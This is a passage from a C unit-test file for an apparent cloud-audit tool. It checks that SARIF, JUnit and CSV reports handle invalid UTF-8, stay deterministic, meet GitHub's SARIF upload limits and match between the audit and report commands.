  ck_assert_str_eq(cJSON_GetArrayItem(cJSON_GetArrayItem(rows, 7), 11)->valuestring, "/m=null");
  cJSON_Delete(rows);
  free(text);
  cJSON_Delete(in);
}
END_TEST

/* ---------------- all three ---------------- */

/* Bytes that are not UTF-8 (a results.json from elsewhere: `report` reads
 * what it is given) never reach a report; each parser still accepts it. */
START_TEST(invalid_utf8_is_replaced_everywhere) {
  cJSON *in = tu_load(HOSTILE);
  cJSON *f0 = cJSON_GetArrayItem(get(in, "findings"), 0);
  cJSON_ReplaceItemInObject(f0, "message", cJSON_CreateString("bad \xFF\xFE and \xC0\xAF end"));
  cJSON_ReplaceItemInObject(cJSON_GetObjectItem(f0, "resource"), "arn", cJSON_CreateString("arn:\xE6\x9D"));
  static const char *const fmts[] = {"sarif", "junit", "csv"};
  for (int k = 0; k < 3; k++) {
    size_t len;
    char *t = render(in, fmts[k], &len);
    char *c = cleaned(t);
    ck_assert_msg(!strcmp(c, t), "%s output is not clean UTF-8", fmts[k]);
    ck_assert_ptr_nonnull(strstr(t, "bad \xEF\xBF\xBD\xEF\xBF\xBD and \xEF\xBF\xBD\xEF\xBF\xBD end"));
    if (k == 0) {
      cJSON *j = cJSON_Parse(t);
      ck_assert_ptr_nonnull(j);
      cJSON_Delete(j);
    } else if (k == 1) {
      xmlseen s;
      parse_xml(t, len, &s);
      xmlseen_free(&s);
    } else {
      cJSON_Delete(parse_csv(t, len));
    }
    free(c);
    free(t);
  }
  cJSON_Delete(in);
}
END_TEST

START_TEST(same_results_same_bytes) {
  cJSON *a = tu_load(HOSTILE), *b = tu_load(HOSTILE);
  static const char *const fmts[] = {"sarif", "junit", "csv"};
  for (int k = 0; k < 3; k++) {
    size_t la, lb;
    char *x = render(a, fmts[k], &la), *y = render(b, fmts[k], &lb);
    ck_assert_uint_eq(la, lb);
    ck_assert_msg(!memcmp(x, y, la), "%s differs between two renderings", fmts[k]);
    free(x);
    free(y);
  }
  cJSON_Delete(a);
  cJSON_Delete(b);
}
END_TEST

START_TEST(empty_results_are_valid_documents) {
  cJSON *in = cJSON_Parse("{\"schema\":\"connect-auditor/results/v1\",\"tool\":{\"name\":\"connect-auditor\","
                          "\"version\":\"0.1.0\"},\"packs\":[],\"rules\":[],\"findings\":[]}");
  size_t len;
  char *t = render(in, "csv", &len);
  ck_assert_str_eq(t, "rule_id,status,severity,title,resource_arn,resource_type,resource_name,region,controls,"
                      "practice,message,evidence,remediation\r\n");
  free(t);
  t = render(in, "junit", &len);
  xmlseen s;
  parse_xml(t, len, &s);
  ck_assert_int_eq(s.suites, 0);
  xmlseen_free(&s);
  free(t);
  t = render(in, "sarif", &len);
  cJSON *j = cJSON_Parse(t);
  ck_assert_int_eq(cJSON_GetArraySize(get(cJSON_GetArrayItem(get(j, "runs"), 0), "results")), 0);
  cJSON_Delete(j);
  free(t);
  cJSON_Delete(in);
}
END_TEST

/* ---------------- through the binary ---------------- */

/* GitHub code scanning's documented upload requirements ("SARIF support for
 * code scanning"; "SARIF results exceed limit"), checked directly: the
 * Multitool's GitHub rules say nothing of most of them. Returns the number
 * of results. snapshot: the snapshot's text, to check each region's line. */
static int github_accepts(const cJSON *log, const char *snapshot) {
  ck_assert_str_eq(str(log, "version"), "2.1.0");
  const cJSON *runs = get(log, "runs");
  ck_assert_int_ge(cJSON_GetArraySize(runs), 1);
  ck_assert_int_le(cJSON_GetArraySize(runs), 20);   /* runs per file */
  int total = 0;
  const cJSON *run;
  cJSON_ArrayForEach(run, runs) {
    const cJSON *rules = get(get(get(run, "tool"), "driver"), "rules"), *rule, *res;
    ck_assert_int_le(cJSON_GetArraySize(rules), 25000);   /* rules per run */
    ck_assert_int_le(cJSON_GetArraySize(get(run, "results")), 25000);   /* results per run */
    cJSON_ArrayForEach(rule, rules) {
      const cJSON *props = get(rule, "properties");
      ck_assert_int_le(cJSON_GetArraySize(get(props, "tags")), 20);   /* tags per rule */
      const char *sev = str(props, "severity");
      ck_assert_msg(*sev, "rule %s has no severity", str(rule, "id"));
      if (strcmp(sev, "info")) {   /* GitHub ranks by security-severity beside a "security" tag */
        double score = atof(str(props, "security-severity"));
        ck_assert_msg(score > 0 && score <= 10, "rule %s: security-severity %s", str(rule, "id"), str(props, "security-severity"));
        int tagged = 0;
        const cJSON *t;
        cJSON_ArrayForEach(t, get(props, "tags")) tagged |= !strcmp(t->valuestring, "security");
        ck_assert(tagged);
      }
    }
    cJSON_ArrayForEach(res, get(run, "results")) {
      int ri = get(res, "ruleIndex")->valueint;
      ck_assert_int_lt(ri, cJSON_GetArraySize(rules));
      ck_assert_str_eq(str(cJSON_GetArrayItem(rules, ri), "id"), str(res, "ruleId"));
      ck_assert_uint_eq(strlen(str(get(res, "partialFingerprints"), "connectAuditor/v1")), 64);
      const cJSON *locs = get(res, "locations"), *loc;
      ck_assert_int_ge(cJSON_GetArraySize(locs), 1);
      ck_assert_int_le(cJSON_GetArraySize(locs), 1000);   /* locations per result */
      cJSON_ArrayForEach(loc, locs) {
        const cJSON *phys = get(loc, "physicalLocation");
        const char *uri = str(get(phys, "artifactLocation"), "uri");
        ck_assert_msg(*uri, "result %d (%s) has no physicalLocation.artifactLocation.uri", total, str(res, "ruleId"));
        const cJSON *line = get(get(phys, "region"), "startLine");
        if (line && snapshot) {   /* the line holds the resource's ARN key */
          const char *p = snapshot;
          for (int l = 1; l < line->valueint && p; l++) p = strchr(p, '\n'), p = p ? p + 1 : NULL;
          ck_assert_ptr_nonnull(p);
          const char *fqn = str(cJSON_GetArrayItem(get(loc, "logicalLocations"), 0), "fullyQualifiedName");
          char key[1200];
          snprintf(key, sizeof key, "\"%s\": {", fqn);
          const char *eol = strchr(p, '\n');
          ck_assert_msg(strstr(p, key) && strstr(p, key) < eol, "line %d does not hold %s", line->valueint, key);
        }
      }
      total++;
    }
  }
  return total;
}

/* Past 25,000 findings the SARIF keeps 25,000 results, failing ones first,
 * and says so in run.properties.truncated. */
START_TEST(sarif_caps_results_at_githubs_limit) {
  cJSON *in = tu_load(HOSTILE);
  const cJSON *fs = get(in, "findings");
  const cJSON *pass = NULL, *fail = NULL, *f;
  cJSON_ArrayForEach(f, fs) {
    if (!pass && !strcmp(str(f, "status"), "pass")) pass = f;
    if (!fail && !strcmp(str(f, "status"), "fail")) fail = f;
  }
  ck_assert(pass && fail);
  cJSON *many = cJSON_CreateArray();
  for (int i = 0; i < 25010; i++) cJSON_AddItemToArray(many, cJSON_Duplicate(i < 24995 ? pass : fail, 1));
  cJSON_ReplaceItemInObjectCaseSensitive(in, "findings", many);
  char *text = render(in, "sarif", NULL);
  cJSON *log = cJSON_Parse(text);
  ck_assert_int_eq(github_accepts(log, NULL), 25000);
  const cJSON *run = cJSON_GetArrayItem(get(log, "runs"), 0), *rs = get(run, "results");
  for (int i = 0; i < 15; i++) ck_assert_str_eq(str(get(cJSON_GetArrayItem(rs, i), "properties"), "status"), "fail");
  ck_assert_str_eq(str(get(cJSON_GetArrayItem(rs, 15), "properties"), "status"), "pass");
  const cJSON *t = get(get(run, "properties"), "truncated");
  ck_assert_int_eq(get(t, "results")->valueint, 25000);
  ck_assert_int_eq(get(t, "findings")->valueint, 25010);
  /* and the command line says so on stderr (audit and report print this note after writing it) */
  char said[512];
  ck_assert(ca_report_note(ca_format_find("sarif"), in, "out/results.sarif", said, sizeof said));
  ck_assert_msg(strstr(said, "out/results.sarif holds 25000 of 25010 findings") && strstr(said, "10 others are left out"),
                "said: %s", said);
  ck_assert(!ca_report_note(ca_format_find("csv"), in, "out/findings.csv", said, sizeof said));   /* csv keeps all */
  cJSON_Delete(log);
  free(text);
  cJSON_Delete(in);
}
END_TEST

START_TEST(audit_writes_all_and_report_gives_the_same_bytes) {
  PATH(outdir, "out");
  PATH(audit_log, "audit.txt");
  PATH(report_log, "report.txt");
  const char *argv[] = {CA_TEST_BIN, "audit", CA_TEST_SRC "/fixtures/demo/prod.json", "-o", outdir,
                        "--format", "json,sarif,junit,csv", "--fail-on", "none", NULL};
  const char *env[] = {"SOURCE_DATE_EPOCH=1795167000", NULL};
  int code = tu_spawn(argv, env, audit_log, NULL);
  char *log = tu_read(audit_log, NULL);
  ck_assert_msg(code == 0, "audit exited %d:\n%s", code, log);
  free(log);
  static const struct { const char *fmt, *file; } f[] = {
    {"sarif", "results.sarif"}, {"junit", "junit.xml"}, {"csv", "findings.csv"}};
  char results[300];
  snprintf(results, sizeof results, "%s/results.json", outdir);
  cJSON *res = tu_load(results);
  int nf = cJSON_GetArraySize(get(res, "findings"));
  ck_assert_int_gt(nf, 10);
  for (int k = 0; k < 3; k++) {
    char written[300], again[300];
    snprintf(written, sizeof written, "%s/%s", outdir, f[k].file);
    snprintf(again, sizeof again, "%s/again.%s", tu_dir, f[k].fmt);
    const char *rargv[] = {CA_TEST_BIN, "report", results, "--format", f[k].fmt, "-o", again, NULL};
    ck_assert_int_eq(tu_spawn(rargv, env, report_log, NULL), 0);
    size_t la, lb;
    char *a = tu_read(written, &la), *b = tu_read(again, &lb);
    ck_assert_msg(la == lb && !memcmp(a, b, la), "report --format %s differs from what audit wrote", f[k].fmt);
    if (k == 0) {   /* the demo's SARIF: one result per finding, and valid */
      cJSON *j = cJSON_Parse(a);
      ck_assert_int_eq(cJSON_GetArraySize(get(cJSON_GetArrayItem(get(j, "runs"), 0), "results")), nf);
      /* what GitHub's upload needs: the snapshot named as the repository knows it, each resource's line */
      char *snap = tu_read(CA_TEST_SRC "/fixtures/demo/prod.json", NULL);
      ck_assert_int_eq(github_accepts(j, snap), nf);
      const cJSON *r0 = cJSON_GetArrayItem(get(cJSON_GetArrayItem(get(j, "runs"), 0), "results"), 0);
      const cJSON *ph = get(cJSON_GetArrayItem(get(r0, "locations"), 0), "physicalLocation");
      ck_assert_str_eq(str(get(ph, "artifactLocation"), "uri"), "fixtures/demo/prod.json");
      ck_assert_int_gt(get(get(ph, "region"), "startLine")->valueint, 1);
      ck_assert_str_eq(str(get(res, "snapshot"), "file"), "fixtures/demo/prod.json");
      free(snap);
      cJSON_Delete(j);
      if (!access(MULTITOOL, X_OK)) {
        int mc;
        char *c = multitool_complaints(written, &mc);
        ck_assert_msg(!*c, "SARIF Multitool on the demo:\n%s", c);
        free(c);
      }
    } else if (k == 1) {
      xmlseen s;
      parse_xml(a, la, &s);
      ck_assert_int_eq(s.cases, nf);
      xmlseen_free(&s);
    } else {
      cJSON *rows = parse_csv(a, la);
      ck_assert_int_eq(cJSON_GetArraySize(rows), nf + 1);
      cJSON_Delete(rows);
    }
    free(a);
    free(b);
  }
  cJSON_Delete(res);
}
END_TEST

int main(void) {
  Suite *s = suite_create("report_ci");
  TCase *tc = tcase_create("report_ci");
  tcase_add_checked_fixture(tc, setup, teardown);
  tcase_set_timeout(tc, 300);
  tcase_add_test(tc, clean_replaces_what_is_not_utf8_or_xml_text);
  tcase_add_test(tc, dups_rank_equal_keys_in_order);
  tcase_add_test(tc, finding_uid_is_rule_arn_and_rank);
  tcase_add_test(tc, sarif_maps_every_finding);
  tcase_add_test(tc, sarif_passes_the_multitool);
  tcase_add_test(tc, sarif_passes_the_json_schema);
  tcase_add_test(tc, junit_parses_and_counts);
  tcase_add_test(tc, csv_round_trips_hostile_fields);
  tcase_add_test(tc, invalid_utf8_is_replaced_everywhere);
  tcase_add_test(tc, same_results_same_bytes);
  tcase_add_test(tc, empty_results_are_valid_documents);
  tcase_add_test(tc, sarif_caps_results_at_githubs_limit);
  tcase_add_test(tc, audit_writes_all_and_report_gives_the_same_bytes);
  suite_add_tcase(s, tc);
  return tu_run_suite(s);
}
